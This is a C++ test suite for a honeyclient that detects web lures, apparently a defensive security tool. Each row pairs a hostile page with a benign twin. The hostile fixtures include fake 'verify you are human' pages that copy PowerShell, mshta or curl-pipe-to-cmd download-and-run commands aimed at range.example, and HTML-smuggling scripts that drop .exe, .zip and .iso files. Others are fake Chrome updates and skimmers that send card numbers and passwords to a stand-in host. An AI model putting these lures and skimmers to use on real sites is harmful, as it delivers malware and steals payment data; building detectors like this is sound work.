// Lures: each with a page that shows it, and an innocent twin that must not raise it.
#include <algorithm>

#include "base/bytes.h"
#include "honeyclient/chain/bait.h"
#include "honeyclient/chain/lures.h"
#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

using intel::VisitVerdict;

struct Row {
  const char* name;
  Sites::Pages pages;
  VisitVerdict verdict;
  std::vector<std::string> lures;  // "name (technique)", sorted
  const char* persona = "chrome-win10";
};

class Lures : public ::testing::TestWithParam<Row> {};

TEST_P(Lures, AreFoundAndTheirTwinsAreNot) {
  Sites sites(GetParam().pages);
  VisitOptions options = local_visit(sites.url());
  options.persona = GetParam().persona;
  intel::VisitRecord visit = visit_or_fail(options);
  std::vector<std::string> named;
  for (const std::string& lure : events_of(visit, "lure")) named.push_back(lure.substr(0, lure.find(": ")));
  std::ranges::sort(named);
  EXPECT_EQ(named, GetParam().lures) << ::testing::PrintToString(events_of(visit, "lure"));
  EXPECT_EQ(intel::name(visit.verdict), intel::name(GetParam().verdict))
      << ::testing::PrintToString(visit.reasons);
  for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
}

const std::string javascript = "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\n\r\n";
const std::string program = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ" +
                            std::string(58, '\0') + std::string("\x40\0\0\0PE\0\0", 8) +
                            std::string(100, 'x');
// The same bytes, made by a page: an offset at 60 that points to 64.
const std::string make_program =
    "var b = new Uint8Array(200); b[0] = 77; b[1] = 90; b[60] = 64; b[64] = 80; b[65] = 69;";
const std::string save =
    "var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([b]));"
    "a.download = name; document.body.appendChild(a); a.click();";
// Stored, of one entry; script makes it as a page that smuggles does.
std::string zip_with(const std::string& entry) {
  return "var n = '" + entry +
         "', b = new Uint8Array(30 + n.length); b[0] = 80; b[1] = 75; b[2] = 3; b[3] = 4; b[26] = n.length;"
         "for (var i = 0; i < n.length; i++) b[30 + i] = n.charCodeAt(i);";
}

INSTANTIATE_TEST_SUITE_P(
    Rows, Lures,
    ::testing::Values(
        // --- a command in the clipboard
        Row{"paste_into_run",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText('powershell -w hidden -c \"iex (irm http://range.example/a)\"') "
              "}</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"steps_that_appear_after_the_click",
            {{"/",
              "<h1>Verify you are human</h1><div id=b class=checkbox onclick=\"navigator.clipboard.writeText("
              "document.getElementById('c').textContent); setTimeout(function () { s.style.display = '';"
              "s.innerHTML = 'Press Windows + R, then Ctrl + V and Enter' }, 500)\">I'm not a robot</div>"
              "<div id=s></div><p id=c>powershell -w hidden -c iex (irm http://range.example/a)</p>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"twin_a_question_whether_somebody_is_there",
            {{"/",
              "<h1>Verify you are human</h1><div id=b onclick=\"navigator.clipboard.writeText('thank you');"
              "s.innerHTML = 'Thank you'\">I'm not a robot</div><div id=s></div>"
              "<a href=/verify>Verify by mail</a>"},
             {"/verify", "<p>x</p>"}},
            VisitVerdict::benign,
            {}},
        Row{"copied_without_a_click_and_never_shown",
            {{"/",
              "<body><p>Welcome</p><script>var t = document.createElement('textarea');"
              "t.value = 'mshta http://range.example/x.hta'; document.body.appendChild(t); t.select();"
              "document.execCommand('copy'); t.remove()</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"another_text_than_was_marked",
            {{"/",
              "<body><p>Press Win + R and paste</p><button id=b>Copy</button><script>"
              "document.addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', "
              "'cmd /c curl http://range.example/x | cmd'); e.preventDefault() });"
              "b.onclick = function () { document.execCommand('copy') }</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"clipboard_of_internet_explorer",
            {{"/",
              "<body><p>x</p><script>window.clipboardData.setData('Text', 'mshta "
              "http://range.example/x.hta')</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"},
            "ie8-winxp"},
        Row{"powershell_without_a_programs_name",
            {{"/",
              "<h1>Verify you are human</h1><p>Open PowerShell, press Ctrl + V and Enter</p>"
              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText('iex (irm http://range.example/a)') }</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"a_command_in_pieces",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText('p^ow\"er\"shell ir^m http://range.example/a') }</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"a_box_that_is_ticked",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<input type=checkbox id=b> I'm not a robot<script>b.onchange = function () { if (b.checked) "
              "navigator.clipboard.writeText('powershell -w hidden -c \"iex (irm http://range.example/a)\"') "
              "}</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"heard_far_above",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<div><span class=box>I'm not a "
              "robot</span></div><script>document.addEventListener('pointerdown', "
              "function (e) { if (e.target.className == 'box') navigator.clipboard.writeText('powershell -w "
              "hidden -c \"iex (irm http://range.example/a)\"') })</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"in_a_shadow_tree",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<div id=h></div><script>var r = h.attachShadow({mode: 'closed'}); r.innerHTML = "
              "'<button>Verify</button>'; r.firstChild.onclick = function () { "
              "navigator.clipboard.writeText('powershell -w hidden -c \"iex (irm http://range.example/a)\"') "
              "}</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"paste_into_an_address_bar",
            {{"/",
              "<p>Open File Explorer, click its address bar, paste and press Enter</p><button "
              "id=b>Copy</button>"
              "<script>b.onclick = function () { navigator.clipboard.writeText('powershell -w hidden -c "
              "\"iex (irm http://range.example/a)\"') }</script>"}},
            VisitVerdict::malicious,
            {"paste and run (T1204.004)"}},
        Row{"twin_a_path_for_an_address_bar",
            {{"/",
              "<p>Open File Explorer, click its address bar, paste <code id=p>\\\\files\\team</code> and "
              "press "
              "Enter</p><button id=b>Copy</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText(p.textContent) }</script>"}},
            VisitVerdict::benign,
            {}},
        Row{"a_text_that_nobody_knows_and_nobody_sees",
            {{"/",
              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText('newtool range.example') }</script>"}},
            VisitVerdict::suspicious,
            {"paste and run (T1204.004)"}},
        Row{"help_that_shows_what_it_has_pasted",
            {{"/",
              "<h1>Repair</h1><p>Press Windows + R and paste</p><pre id=c>powershell -c iwr "
              "https://help.example/fix</pre><button id=b>Copy</button><script>b.onclick = function () { "
              "navigator.clipboard.writeText(c.textContent) }; b.click()</script>"}},
            VisitVerdict::suspicious,
            {"paste and run (T1204.004)"}},
        Row{"twin_documentation_with_a_copy_button",
            {{"/",
              "<h1>Install</h1><p>Open a terminal and paste:</p><pre id=c>curl -fsSL "
              "https://sh.example/install | sh</pre><button id=b>Copy</button><script>b.onclick = function "
              "() "
              "{ navigator.clipboard.writeText(c.textContent) }; b.click()</script>"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_a_link_is_copied_unseen",
            {{"/", "<p>Share</p><script>navigator.clipboard.writeText('https://news.example/42')</script>"}},
            VisitVerdict::benign,
            {}},
        // --- files that a page makes
        Row{"program_by_blob",
            {{"/", "<body><script>" + make_program + "var name = 'invoice.exe';" + save + "</script>"}},
            VisitVerdict::malicious,
            {"HTML smuggling (T1027.006)"}},
        Row{"archive_with_a_program_by_blob",
            {{"/", "<body><script>" + zip_with("invoice.exe") + "var name = 'a.zip';" + save + "</script>"}},
            VisitVerdict::malicious,
            {"HTML smuggling (T1027.006)"}},
        Row{"script_file_by_data_url",
            {{"/",
              "<body><script>var a = document.createElement('a'); a.download = 'invoice.js';"
              "a.href = 'data:application/octet-stream,' + encodeURIComponent('WScript.Echo(1)');"
              "document.body.appendChild(a); a.click()</script>"}},
            VisitVerdict::malicious,
            {"HTML smuggling (T1027.006)"}},
        Row{"disk_image_by_blob",
            {{"/",
              "<body><script>var b = new Uint8Array(0x8800), s = 'CD001'; for (var i = 0; i < 5; i++) "
              "b[0x8001 + i] = s.charCodeAt(i); var name = 'scan.iso';" +
                  save + "</script>"}},
            VisitVerdict::suspicious,
            {"HTML smuggling (T1027.006)"}},
        Row{"saved_by_edge",
            {{"/", "<body><script>" + make_program +
                       "navigator.msSaveOrOpenBlob(new Blob([b]), 'invoice.exe')</script>"}},
            VisitVerdict::malicious,
            {"HTML smuggling (T1027.006)"},
            "edge18-win10"},
        Row{"twin_report_by_blob",
            {{"/", "<body><script>var b = '%PDF-1.4 a report', name = 'report.pdf';" + save + "</script>"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_archive_of_pictures_by_blob",
            {{"/", "<body><script>" + zip_with("cat.png") + "var name = 'cats.zip';" + save + "</script>"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_archive_of_a_site_by_blob",
            {{"/", "<body><script>" + zip_with("jquery.scrollTo.min.css") + "var name = 'site.zip';" + save +
                       "</script>"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_table_by_data_url",
            {{"/",
              "<body><script>var a = document.createElement('a'); a.download = 'table.csv';"
              "a.href = 'data:text/csv,a;b'; document.body.appendChild(a); a.click()</script>"}},
            VisitVerdict::benign,
            {}},
        // --- fake updates
        Row{"fake_update_from_another_site",
            {{"/", "<h1>Your Chrome is out of date</h1><a id=u href={b}/ChromeSetup.exe>Update Chrome</a>"},
             {"/ChromeSetup.exe", program}},
            VisitVerdict::malicious,
            {"fake update (T1204.002)"}},
        Row{"fake_update_whose_server_alone_names_it",
            {{"/", "<h1>Your Chrome is out of date</h1><a href={b}/dl?id=7>Update Chrome</a>"},
             {"/dl?id=7",
              "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nContent-Disposition: attachment; "
              "filename=\"Update.js\"\r\n\r\nvar x"}},
            VisitVerdict::malicious,
            {"fake update (T1204.002)"}},
        Row{"fake_update_behind_a_forms_button",
            {{"/",
              "<h1>You use an older version of Chrome</h1><form action={b}/ChromeSetup.exe><input "
              "type=hidden name=v "
              "value=1><button>Update</button></form>"},
             {"/ChromeSetup.exe?v=1", program}},
            VisitVerdict::malicious,
            {"fake update (T1204.002)"}},
        Row{"fake_update_behind_a_picture",
            {{"/",
              "<h1>Update your browser</h1><p>Chrome cannot show this page.</p><a "
              "href={b}/ChromeSetup.exe><img src=/b "
              "alt='Download it'></a>"},
             {"/b", "x"},
             {"/ChromeSetup.exe", program}},
            VisitVerdict::malicious,
            {"fake update (T1204.002)"}},
        Row{"twin_a_search_form_beside_news_of_an_update",
            {{"/",
              "<h1>Chrome update available: what is new</h1><form action={b}/s method=post><input "
              "name=q><button>Find "
              "an update</button></form>"}},
            VisitVerdict::benign,
            {}},
        Row{"fake_update_made_in_the_page",
            {{"/",
              "<body><h1>Critical update of your browser</h1><button id=u>Update now</button><script>"
              "u.onclick = function () {" +
                  make_program + "var name = 'Update.exe';" + save + "}</script>"}},
            VisitVerdict::malicious,
            {"HTML smuggling (T1027.006)", "fake update (T1204.002)"}},
        Row{"twin_release_notes_of_a_browser",
            {{"/",
              "<h1>Chrome update available: what is new</h1><a href={b}/notes>Read more about the "
              "update</a>"},
             {"/notes", "x"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_download_page",
            {{"/", "<h1>Download our editor</h1><a href={b}/editor.exe>Download</a>"},
             {"/editor.exe", program}},
            VisitVerdict::benign,
            {}},
        // --- notifications and service workers
        Row{"notification_prompt",
            {{"/",
              "<h1>Click Allow to confirm that you are not a robot</h1><script>"
              "Notification.requestPermission()</script>"}},
            VisitVerdict::suspicious,
            {"notification prompt"}},
        Row{"notification_prompt_with_a_strangers_worker",
            {{"/",
              "<p>Press Allow to watch the video</p><script>navigator.serviceWorker.register('/sw.js')"
              ".then(function () { Notification.requestPermission(function () {}) })</script>"},
             {"/sw.js", javascript + "importScripts('{b}/push.js');"},
             {"/push.js", javascript + "var x;"}},
            VisitVerdict::suspicious,
            {"notification prompt"}},
        Row{"twin_service_worker",
            {{"/",
              "<p>Works offline</p><script>if ('serviceWorker' in navigator) "
              "navigator.serviceWorker.register('/sw.js')</script>"},
             {"/sw.js", javascript + "self.addEventListener('fetch', function () {});"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_notifications",
            {{"/",
              "<p>Calendar</p><script>if (Notification.permission === 'default') "
              "Notification.requestPermission()</script>"}},
            VisitVerdict::benign,
            {}},
        // --- skimmers
        Row{"skimmer_by_picture",
            {{"/",
              "<form action=/pay method=post><input name=card_number><input "
              "name=cvv><button>Pay</button></form>"
              "<script src={b}/lib.js></script>"},
             {"/lib.js", javascript + "document.forms[0].addEventListener('submit', function () { new "
                                      "Image().src = '{b}/i.gif?d=' + "
                                      "btoa(document.forms[0].card_number.value) })"},
             {"/i.gif", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        Row{"skimmer_while_typing",
            {{"/",
              "<input type=password id=p><script>p.addEventListener('keyup', function () { "
              "navigator.sendBeacon('{b}/c', JSON.stringify({p: p.value})) })</script>"},
             {"/c", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        Row{"skimmer_that_looks_again_and_again",
            {{"/",
              "<input name=card_number id=c><script>var n = 0; setInterval(function () { if (c.value && "
              "!n++) new "
              "Image().src = '{b}/i.gif?d=' + btoa(c.value) }, 400)</script>"},
             {"/i.gif", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        // Faster than that a page's minute has turns for.
        Row{"skimmer_that_looks_all_the_time",
            {{"/",
              "<input name=card_number id=c><script>var n = 0; setInterval(function () { if (c.value && "
              "!n++) new Image().src = '{b}/i.gif?d=' + btoa(c.value) }, 10)</script>"},
             {"/i.gif", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        Row{"skimmer_that_sets_itself_again_at_once",
            {{"/",
              "<input name=card_number id=c><script>(function look() { if (c.value) new Image().src = "
              "'{b}/i.gif?d=' + btoa(c.value); else setTimeout(look, 1) })()</script>"},
             {"/i.gif", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        Row{"skimmer_that_sets_itself_again",
            {{"/",
              "<input name=card_number id=c><script>(function look() { if (c.value) new Image().src = "
              "'{b}/i.gif?d=' "
              "+ btoa(c.value); else setTimeout(look, 400) })()</script>"},
             {"/i.gif", "x"}},
            VisitVerdict::malicious,
            {"form skimmer (T1056.003)"}},
        Row{"twin_sign_in_by_the_sites_own_script",
            {{"/",
              "<form id=f action=/in><input type=password name=p><button>In</button></form><script>"
              "f.onsubmit = function () { fetch('/api', {method: 'POST', body: f.p.value}); return false "
              "}</script>"},
             {"/api", "x"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_sign_in_at_another_company",
            {{"/",
              "<form id=f action={b}/in><input type=password name=p><button>In</button></form><script>"
              "f.onsubmit = function () { fetch('{b}/check', {method: 'POST', body: "
              "f.p.value}).catch(function () {}); return "
              "false "
              "}</script>"},
             {"/check", "x"}},
            VisitVerdict::benign,
            {}},
        Row{"twin_statistics_of_a_form",
            {{"/",
              "<form><input type=password id=p></form><script>p.onchange = function () { "
              "new Image().src = '{b}/s?field=p&length=' + p.value.length }</script>"},
             {"/s", "x"}},
            VisitVerdict::benign,
            {}},
        // --- open redirects: named, and nobody is convicted by one
        Row{"open_redirect",
            {{"/", "<script>location = '/go?u=' + encodeURIComponent('{b}/end')</script>"},
             {"/go", "HTTP/1.1 302 Found\r\nLocation: {b}/end\r\n\r\n"},
             {"/end", "x"}},
            VisitVerdict::benign,
            {"open redirect"}},
        Row{"twin_redirect_that_names_nobody",
            {{"/", "<script>location = '/go?u=42'</script>"},
             {"/go", "HTTP/1.1 302 Found\r\nLocation: {b}/end\r\n\r\n"},
             {"/end", "x"}},
            VisitVerdict::benign,
            {}}),
    [](const auto& row) { return row.param.name; });

// Before a page that lures to a command, as before a file.
TEST(Lures, TrafficDistributionIsAskedTwiceWhateverItLedTo) {
  Sites sites(Sites::Pages{{"/",
                            "<p>x</p><script>navigator.clipboard.writeText('mshta "
                            "http://range.example/x.hta')</script>"}});
  int asked = 0;
  net::TestServer gate(
      [&](net::TestConnection& client) {
        if (client.receive_request().empty()) return;
        client.send(++asked > 1
                        ? "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"
                        : "HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: " + sites.url() + "\r\n\r\n");
      },
      "127.0.0.3");
  const std::vector<std::string> lures =
      events_of(visit_or_fail(local_visit("http://127.0.0.3:" + std::to_string(gate.port()) + "/")), "lure");
  EXPECT_EQ(asked, 2);
  EXPECT_TRUE(std::ranges::any_of(lures, [](const std::string& lure) {
    return lure.starts_with("traffic distribution");
  })) << ::testing::PrintToString(lures);
}

// Once to the file, and then nowhere; the twin redirects alike each time.
TEST(Lures, TrafficDistributionIsAskedTwice) {
  for (bool once : {true, false}) {
    int asked = 0;
    net::TestServer file(
        [](net::TestConnection& client) {
          if (client.receive_request().empty()) return;
          client.send(
              "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 64\r\n\r\nMZ" +
              std::string(62, '\0'));
        },
        "127.0.0.3");
    net::TestServer gate(
        [&](net::TestConnection& client) {
          if (client.receive_request().empty()) return;
          if (once && ++asked > 1) {
            client.send("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx");
          } else {
            client.send("HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: http://127.0.0.3:" +
                        std::to_string(file.port()) + "/f\r\n\r\n");
          }
        },
        "127.0.0.2");
    Sites sites(
        Sites::Pages{{"/", "<iframe src=http://127.0.0.2:" + std::to_string(gate.port()) + "/></iframe>"}});
    std::vector<std::string> lures = events_of(visit_or_fail(local_visit(sites.url())), "lure");
    ASSERT_EQ(lures.size(), once ? 1u : 0u);
    if (once) {
      EXPECT_TRUE(lures[0].starts_with("traffic distribution: sent the same visitor nowhere")) << lures[0];
    }
  }
}

TEST(Lures, GiveRoles) {
  Sites sites(Sites::Pages{
      {"/", "<input type=password id=p><script src={b}/s.js></script>"},
      {"/s.js", javascript + "p.onchange = function () { new Image().src = '{b}/i.gif?' + btoa(p.value) }"},
      {"/i.gif", "x"}});
  intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  std::map<std::string, std::string> roles;
  for (const intel::VisitNode& node : visit.nodes)
    if (node.role) roles[sites.named(node.url).substr(0, 10)] = intel::name(*node.role);
  EXPECT_EQ(roles, (std::map<std::string, std::string>{{"{a}/", "landing"}, {"{b}/i.gif?", "drop"}}));
}

TEST(Bait, IsFoundHoweverItIsWritten) {
  using chain::Bait;
  const std::string card(chain::bait_card), reversed(card.rbegin(), card.rend());
  EXPECT_EQ(chain::bait_in("number=" + card + "&x"), Bait::plain);
  EXPECT_EQ(chain::bait_in("{\"p\":\"Rk7%2Dtallow%2DQuince\"}"), Bait::plain);
  EXPECT_EQ(chain::bait_in(reversed), Bait::encoded);
  for (const char* before : {"", "a", "ab", "abc"})
    for (const char* behind : {"", "z", "zy", "zyx"})
      EXPECT_EQ(chain::bait_in(base::to_base64(base::as_bytes(before + card + behind))), Bait::encoded)
          << before << "|" << behind;
  EXPECT_EQ(chain::bait_in(base::to_hex(base::as_bytes(card))), Bait::encoded);
  EXPECT_EQ(chain::bait_in("4929421234600820"), Bait::none);
  EXPECT_EQ(chain::bait_in(""), Bait::none);
}

TEST(Commands, ThatFetchAndRun) {
  for (const char* text : {"powershell -w hidden -enc SQBFAFgA", "mshta https://x.example/a",
                           "cmd /c curl http://x.example | cmd", "PowerShell.exe -c \"IEX(IWR x.example)\"",
                           "msiexec /i https://x.example/a.msi /qn"})
    EXPECT_TRUE(chain::is_attack_command(text)) << text;
  for (const char* text : {"npm install left-pad", "https://x.example/", "ipconfig /all", "powershell", ""})
    EXPECT_FALSE(chain::is_attack_command(text)) << text;
}

}  // namespace
}  // namespace shikake::honeyclient::low
